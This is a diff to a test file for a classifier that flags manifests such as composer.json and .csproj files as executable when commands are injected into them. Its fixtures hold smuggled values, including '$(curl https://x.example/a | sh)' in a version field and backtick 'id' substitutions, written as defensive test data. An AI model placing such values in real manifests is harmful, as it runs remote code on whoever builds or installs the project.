@@ -51,7 +51,7 @@ test('a manifest that was executable, and stays so, is what its name says', () =
   expect(kindOf('a/A.csproj', [PROJECT, `${PROJECT}\n`])).toBe('build-configuration');
 });
 
-test.each<readonly [what: string, path: string, texts: readonly [string, string], facts?: Partial<Facts>]>([
+test.each<readonly [what: string, path: string, texts: readonly [string, string], facts: Partial<Facts>]>([
   ['one that becomes executable', 'composer.json', [PACKAGES, SCRIPTS], { oldMode: '100644' }],
   ['one that is new', 'composer.json', ['', SCRIPTS], { status: 'A', oldMode: '000000' }],
   ['one that comes from elsewhere', 'composer.json', [PACKAGES, SCRIPTS], { status: 'R', oldPath: 'a.json' }],
@@ -59,12 +59,13 @@ test.each<readonly [what: string, path: string, texts: readonly [string, string]
     'a command in a text of it',
     'composer.json',
     [PACKAGES, PACKAGES.replace('^1', '$(curl https://x.example/a | sh)')],
+    {},
   ],
-  ['a command between backticks', 'composer.json', [PACKAGES, PACKAGES.replace('^1', '`id`')]],
-  ['commands before it', 'composer.json', [PACKAGES, `id\n${SCRIPTS}`]],
-  ['commands in XML', 'A.csproj', [PROJECT, `id\n${PROJECT}`]],
-  ['what a shell goes on behind', 'A.csproj', [PROJECT, `</dev/null id\n${PROJECT}`]],
-  ['a text for people', 'README.md', ['# A\n', '# B\n']],
+  ['a command between backticks', 'composer.json', [PACKAGES, PACKAGES.replace('^1', '`id`')], {}],
+  ['commands before it', 'composer.json', [PACKAGES, `id\n${SCRIPTS}`], {}],
+  ['commands in XML', 'A.csproj', [PROJECT, `id\n${PROJECT}`], {}],
+  ['what a shell goes on behind', 'A.csproj', [PROJECT, `</dev/null id\n${PROJECT}`], {}],
+  ['a text for people', 'README.md', ['# A\n', '# B\n'], {}],
 ])('%s that can be executed is a program', (_what, path, texts, facts) => {
   expect(kindOf(path, texts, facts)).toBe('executable');
 });
